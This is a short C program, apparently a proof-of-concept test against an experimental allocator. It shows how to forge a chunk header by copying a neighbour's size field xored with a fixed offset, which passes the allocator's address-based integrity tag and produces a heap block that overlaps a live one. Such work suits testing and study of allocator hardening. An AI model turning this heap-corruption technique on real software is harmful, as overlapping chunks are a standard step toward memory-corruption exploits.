/* A header copied from one block to another, without the secret: under a
 * tag that hashes (address ^ header) the header of the chunk at a, with its
 * size xor delta, is valid at a ^ delta. Z (64 KiB) lies right before A,
 * at a - delta; A's header, its size xor delta, written over Z's, makes Z
 * cover A as well. Freed and allocated again, Z overlaps A, which is live. */
#include "attack.h"

#define DELTA 0x10000u

int main(void)
{
    under_mymalloc();
    char *z = NULL, *a = NULL;
    for (int i = 0; i < 16; i++) {
        char *zz = malloc(DELTA - 8), *aa = malloc(40000);   /* chunks of 64 KiB and 40016 bytes */
        uintptr_t cz = (uintptr_t)zz - 16, ca = (uintptr_t)aa - 16;
        if (ca == cz + DELTA && !(cz & DELTA)) {
            z = zz;
            a = aa;
            break;
        }
    }
    if (!z) {
        printf("no pair of neighbours at a and a ^ %#x\n", DELTA);
        return 2;
    }
    say(z);
    WORD(z, -8) = WORD(a, -8) ^ DELTA;
    free(z);
    size_t n = DELTA + 40016 - 8;
    char *q = malloc(n);
    if (q <= a && a < q + n)
        SUCCEEDED("the new block %p (%zu bytes) covers the live block %p", (void *)q, n, (void *)a);
    printf("no overlap: %p\n", (void *)q);
    return 0;
}
